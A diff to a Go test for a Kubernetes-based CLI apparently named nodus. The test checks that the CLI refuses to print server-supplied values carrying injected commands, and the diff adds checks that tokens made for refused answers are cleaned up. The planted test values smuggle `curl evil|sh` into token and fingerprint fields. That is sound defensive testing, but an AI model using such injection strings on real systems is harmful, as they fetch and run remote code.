@@ -8,6 +8,7 @@ import (
 	"sync/atomic"
 	"testing"
 
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/client-go/rest"
 
@@ -117,6 +118,11 @@ func TestCLIPrintsNoCommandTheServerCouldWrite(t *testing.T) {
 	s := testserver.StartTestServer(t)
 	newFleet(t, s)
 	ops := tokenFor(t, s, "ops", "nodus:operators")
+	before, err := s.Client.NodusV1().EnrollmentTokens().List(ctx(t), metav1.ListOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	enrollmentTokens := len(before.Items)
 	for field, planted := range map[string]string{
 		"token":         `${1}x; curl evil|sh #`,
 		"caFingerprint": "${1}sha256:00\\n  curl evil|sh",
@@ -142,6 +148,14 @@ func TestCLIPrintsNoCommandTheServerCouldWrite(t *testing.T) {
 				t.Errorf("nodus %s, the server's %s rewritten: exit %d, printed %q", strings.Join(args, " "), field, code, out)
 			}
 		}
+	}
+	// The tokens made for the refused answers do not stay usable.
+	c := s.Client.NodusV1()
+	if list, err := c.EnrollmentTokens().List(ctx(t), metav1.ListOptions{}); err != nil || len(list.Items) != enrollmentTokens {
+		t.Errorf("enrollment tokens after refused answers: %v, %d, want the %d from before", err, len(list.Items), enrollmentTokens)
+	}
+	if _, err := c.AccessTokens().Get(ctx(t), "laptop-token", metav1.GetOptions{}); !apierrors.IsNotFound(err) {
+		t.Errorf("the access token of a refused answer: %v", err)
 	}
 }
 
